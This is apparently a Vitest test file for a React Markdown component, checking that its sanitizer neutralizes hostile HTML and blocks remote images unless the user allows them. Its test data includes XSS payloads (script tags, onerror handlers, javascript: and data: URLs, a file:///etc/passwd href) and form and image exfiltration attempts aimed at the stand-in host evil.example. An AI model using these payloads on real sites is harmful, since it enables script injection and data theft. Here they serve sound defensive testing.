// @vitest-environment jsdom
import { act } from 'react';
import { createRoot } from 'react-dom/client';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { Markdown } from './Markdown';
import { hasBlockedImages, offlineHTML, renderMarkdown } from './markdown';
import { setRemoteImages } from './remote-images';

(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;

/** Parses rendered HTML into a detached element for inspection. */
function dom(html: string): HTMLElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

describe('renderMarkdown sanitizing', () => {
  it.each([
    ['<script>window.pwned = 1</script>hello', 'script'],
    ['<img src="x" onerror="window.pwned = 1">', '[onerror]'],
    ['<a href="javascript:alert(1)">x</a>', 'a[href^="javascript"]'],
    ['[x](javascript:alert(1))', 'a[href^="javascript"]'],
    ['<iframe src="https://evil.example"></iframe>', 'iframe'],
    ['<form action="https://evil.example"><input name="p"></form>', 'form, input'],
    ['<div style="position:fixed;inset:0">cover</div>', '[style]'],
    ['<svg><script>1</script><a xlink:href="javascript:1">y</a></svg>', 'script, [*|href^="javascript"]'],
    ['<div data-external="true" onclick="1">z</div>', '[onclick], div[data-external]'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'meta'],
    ['<base href="https://evil.example/">[rel](page.html)', 'base'],
    ['<link rel="prefetch" href="https://evil.example/">', 'link'],
    ['<form action="https://evil.example"><button formaction="https://evil.example/b">go</button></form>', 'form, button, [formaction]'],
    ['<map name="m"><area href="javascript:alert(1)" shape="rect" coords="0,0,9,9"></map>', 'area[href]'],
    ['<map name="m"><area href="data:text/html,<script>1</script>"><area href="file:///etc/passwd"></map>', 'area[href]'],
    ['<a href="data:text/html,<script>1</script>">d</a><a href="file:///etc/passwd">f</a>', 'a[href]'],
    ['<map name="m"><area href="https://example.org/" target="_top"></map>', 'area[target]'],
  ])('%j renders without %s', (source, selector) => {
    const html = renderMarkdown(source);
    expect(dom(html).querySelector(selector)).toBeNull();
    expect(html).not.toMatch(/onerror|onclick|javascript:/i);
  });

  it('keeps ordinary markdown', () => {
    const el = dom(renderMarkdown('# Title\n\nSome **bold** and `code`.\n\n| a | b |\n|---|---|\n| 1 | 2 |'));
    expect(el.querySelector('h1')?.textContent).toBe('Title');
    expect(el.querySelector('strong')?.textContent).toBe('bold');
    expect(el.querySelectorAll('td')).toHaveLength(2);
  });

  it('never loads a remote URL by itself: images, media, posters, backgrounds, SVG images', () => {
    const html = renderMarkdown(
      '![chart](https://evil.example/c.png?d=secret) ![](//evil.example/x.gif)\n\n' +
        '<video src="https://evil.example/v.mp4" poster="http://evil.example/p.png"></video>' +
        '<audio><source src="https://evil.example/a.mp3"></audio>' +
        '<table background="https://evil.example/bg.png"><tr><td>t</td></tr></table>' +
        '<svg><image href="https://evil.example/s.png"></image></svg>' +
        '![local](data:image/gif;base64,R0lGODlhAQABAAAAACw=)',
    );
    const doc = new DOMParser().parseFromString(html, 'text/html');
    for (const el of Array.from(doc.body.querySelectorAll('*'))) {
      for (const a of ['src', 'poster', 'background', 'href', 'xlink:href']) {
        expect(el.getAttribute(a) ?? '', `${el.nodeName} ${a}`).not.toMatch(/evil\.example/);
      }
    }
    const imgs = Array.from(doc.querySelectorAll('img'));
    expect(imgs[0]?.getAttribute('alt')).toBe('chart (remote image not loaded)');
    expect(imgs[0]?.getAttribute('data-blocked-src')).toBe('https://evil.example/c.png?d=secret');
    expect(imgs[2]?.getAttribute('src')).toMatch(/^data:image\/gif/);
  });

  it('puts a no-network CSP in front of an HTML artifact for its frame', () => {
    const html = offlineHTML('<img src="https://evil.example/x.png"><style>body{background:url(https://evil.example/b)}</style>');
    expect(html.startsWith('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; img-src data: blob:;')).toBe(true);
    expect(html).toContain('<img src="https://evil.example/x.png">');
  });

  it('marks external links for the click handler', () => {
    const el = dom(renderMarkdown('[site](https://example.org/x) and [rel](/local)'));
    const [site, rel] = Array.from(el.querySelectorAll('a'));
    expect(site?.getAttribute('data-external')).toBe('true');
    expect(site?.getAttribute('rel')).toBe('noopener noreferrer');
    expect(site?.getAttribute('target')).toBeNull();
    expect(rel?.hasAttribute('data-external')).toBe(false);
  });
});

describe('renderMarkdown task lists', () => {
  it('renders GitHub task items and task-plan markers without raw brackets or inputs', () => {
    const source = ['- [x] done', '- [ ] open', '- [✓] ticked **bold**', '- [✗] not yet', '- [~] going', '- plain'].join('\n');
    const el = dom(renderMarkdown(source));
    const items = Array.from(el.querySelectorAll('li'));
    expect(items.map((li) => li.className)).toEqual([
      'task task-done',
      'task task-todo',
      'task task-done',
      'task task-todo',
      'task task-progress',
      '',
    ]);
    expect(items.map((li) => li.textContent.trim())).toEqual(['done', 'open', 'ticked bold', 'not yet', 'going', 'plain']);
    expect(el.querySelector('input')).toBeNull();
    expect(el.querySelector('li.task-done strong')?.textContent).toBe('bold');
    expect(el.querySelector('.task-mark')?.getAttribute('aria-label')).toBe('Done');
  });

  it('handles markers in loose and ordered lists', () => {
    const el = dom(renderMarkdown('1. [✓] first\n\n2. [✗] second\n'));
    expect(Array.from(el.querySelectorAll('li')).map((li) => li.className)).toEqual(['task task-done', 'task task-todo']);
  });
});

describe('Markdown component', () => {
  let container: HTMLDivElement | null = null;
  afterEach(() => {
    container?.remove();
    container = null;
    delete (window as unknown as Record<string, unknown>).runtime;
  });

  function mount(source: string): HTMLDivElement {
    const el = document.createElement('div');
    document.body.append(el);
    act(() => {
      createRoot(el).render(<Markdown source={source} />);
    });
    container = el;
    return el;
  }

  function click(a: Element): MouseEvent {
    const ev = new MouseEvent('click', { bubbles: true, cancelable: true });
    act(() => {
      a.dispatchEvent(ev);
    });
    return ev;
  }

  it('opens external links with BrowserOpenURL and never navigates the window', () => {
    const open = vi.fn();
    (window as unknown as Record<string, unknown>).runtime = { BrowserOpenURL: open };
    const el = mount('See [the review](https://example.org/review) or [here](#top) or [rel](other.html).');
    const links = Array.from(el.querySelectorAll('a'));
    expect(links).toHaveLength(3);
    const events = links.map(click);
    expect(events.every((e) => e.defaultPrevented)).toBe(true);
    expect(open.mock.calls).toEqual([['https://example.org/review']]);
  });

  it('opens image-map areas like links: http(s) in the system browser, nothing else, never the window', () => {
    const open = vi.fn();
    (window as unknown as Record<string, unknown>).runtime = { BrowserOpenURL: open };
    const el = mount(
      '<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="20" height="20">' +
        '<map name="m"><area shape="rect" coords="0,0,9,9" href="https://example.org/area">' +
        '<area shape="rect" coords="10,0,19,9" href="http://example.org/plain">' +
        '<area shape="rect" coords="0,10,9,19" href="other.html">' +
        '<area shape="rect" coords="10,10,19,19" href="javascript:alert(1)"></map>',
    );
    const areas = Array.from(el.querySelectorAll('area'));
    expect(areas).toHaveLength(4);
    expect(areas[3]?.hasAttribute('href')).toBe(false); // the sanitizer dropped javascript:
    // Hrefs a sanitizer bug could let through: none may open or navigate.
    for (const href of ['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'file:///etc/passwd', ' JavaScript:alert(1)']) {
      const area = document.createElement('area');
      area.setAttribute('href', href);
      el.querySelector('map')?.append(area);
    }
    const all = Array.from(el.querySelectorAll('area[href]'));
    expect(all).toHaveLength(7);
    const events = all.map(click);
    expect(events.map((e) => e.defaultPrevented)).toEqual(all.map(() => true));
    expect(open.mock.calls).toEqual([['https://example.org/area'], ['http://example.org/plain']]);
  });

  it('opens an area on a middle click but not on a right click', () => {
    const open = vi.fn();
    (window as unknown as Record<string, unknown>).runtime = { BrowserOpenURL: open };
    const el = mount('<map name="m"><area shape="rect" coords="0,0,9,9" href="https://example.org/area"></map>');
    const area = el.querySelector('area')!;
    const aux = (button: number) => {
      const ev = new MouseEvent('auxclick', { bubbles: true, cancelable: true, button });
      act(() => {
        area.dispatchEvent(ev);
      });
      return ev;
    };
    expect(aux(2).defaultPrevented).toBe(false);
    expect(open).not.toHaveBeenCalled();
    expect(aux(1).defaultPrevented).toBe(true);
    expect(open.mock.calls).toEqual([['https://example.org/area']]);
  });

  it('never submits a form, even one the sanitizer missed, and opens nothing', () => {
    const open = vi.fn();
    (window as unknown as Record<string, unknown>).runtime = { BrowserOpenURL: open };
    const el = mount('<form action="https://evil.example/collect"><input name="q"><button>Go</button></form>text');
    expect(el.querySelector('form, input, button')).toBeNull();
    const form = document.createElement('form');
    form.setAttribute('action', 'https://evil.example/collect');
    form.innerHTML = '<input name="q" value="secret"><button>Go</button>';
    el.querySelector('.markdown')?.append(form);
    const ev = new Event('submit', { bubbles: true, cancelable: true });
    act(() => {
      form.dispatchEvent(ev);
    });
    expect(ev.defaultPrevented).toBe(true);
    expect(open).not.toHaveBeenCalled();
  });

  it('renders a sanitized payload inert', () => {
    const el = mount('<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>ok');
    expect(el.querySelector('script')).toBeNull();
    expect(el.querySelector('img')?.hasAttribute('onerror')).toBe(false);
    expect((window as unknown as Record<string, unknown>).__pwned).toBeUndefined();
  });
});

describe('remote images', () => {
  const source = '![chart](https://img.example/c.png?q=1) ![rel](//img.example/r.png)\n\n<video src="https://img.example/v.mp4"></video>';

  it('keeps only http(s) image sources when images are allowed, and blocks them otherwise', () => {
    const asked = renderMarkdown(source);
    expect(hasBlockedImages(asked)).toBe(true);
    expect(dom(asked).querySelector('img')?.hasAttribute('src')).toBe(false);
    const loaded = dom(renderMarkdown(source, { images: true, copyCode: true }));
    const [chart, rel] = Array.from(loaded.querySelectorAll('img'));
    expect(chart?.getAttribute('src')).toBe('https://img.example/c.png?q=1');
    expect(chart?.getAttribute('referrerpolicy')).toBe('no-referrer');
    expect(rel?.hasAttribute('src')).toBe(false);
    expect(loaded.querySelector('video')?.hasAttribute('src')).toBe(false);
    // The choice holds for that one render only.
    expect(hasBlockedImages(renderMarkdown('![c](https://img.example/c.png)'))).toBe(true);
    expect(hasBlockedImages(renderMarkdown('![c](data:image/gif;base64,R0lGODlhAQABAAAAACw=) no remote'))).toBe(false);
  });

  const roots: HTMLElement[] = [];
  afterEach(() => {
    act(() => setRemoteImages('ask'));
    for (const r of roots.splice(0)) r.remove();
  });
  function mount(src: string): HTMLElement {
    const el = document.createElement('div');
    document.body.append(el);
    act(() => {
      createRoot(el).render(<Markdown source={src} />);
    });
    roots.push(el);
    return el;
  }

  it('shows "Load images" under a text with blocked images and loads them for that text only', () => {
    const first = mount('![a](https://img.example/a.png)');
    const second = mount('![b](https://img.example/b.png)');
    const plain = mount('no images here');
    expect(plain.querySelector('.load-images')).toBeNull();
    const button = first.querySelector<HTMLButtonElement>('.load-images');
    expect(button?.textContent).toBe('Load images');
    expect(first.querySelector('img')?.hasAttribute('src')).toBe(false);
    act(() => button?.click());
    expect(first.querySelector('img')?.getAttribute('src')).toBe('https://img.example/a.png');
    expect(first.querySelector('.load-images')).toBeNull();
    expect(second.querySelector('img')?.hasAttribute('src')).toBe(false);
    expect(second.querySelector('.load-images')).not.toBeNull();
  });

  it('says in browser mode that the page still blocks the images after the click', () => {
    (window as unknown as Record<string, unknown>).runtime = { __browserMode: true };
    try {
      const el = mount('![a](https://img.example/a.png)');
      expect(el.querySelector('.load-images-note')).toBeNull();
      act(() => el.querySelector<HTMLButtonElement>('.load-images')?.click());
      expect(el.querySelector('.load-images-note')?.textContent).toMatch(/^Browser mode still blocks remote images/);
    } finally {
      delete (window as unknown as Record<string, unknown>).runtime;
    }
  });

  it('loads every image at once when Settings say always', () => {
    const el = mount('![a](https://img.example/a.png)');
    expect(el.querySelector('.load-images')).not.toBeNull();
    act(() => setRemoteImages('always'));
    expect(el.querySelector('img')?.getAttribute('src')).toBe('https://img.example/a.png');
    expect(el.querySelector('.load-images')).toBeNull();
  });
});
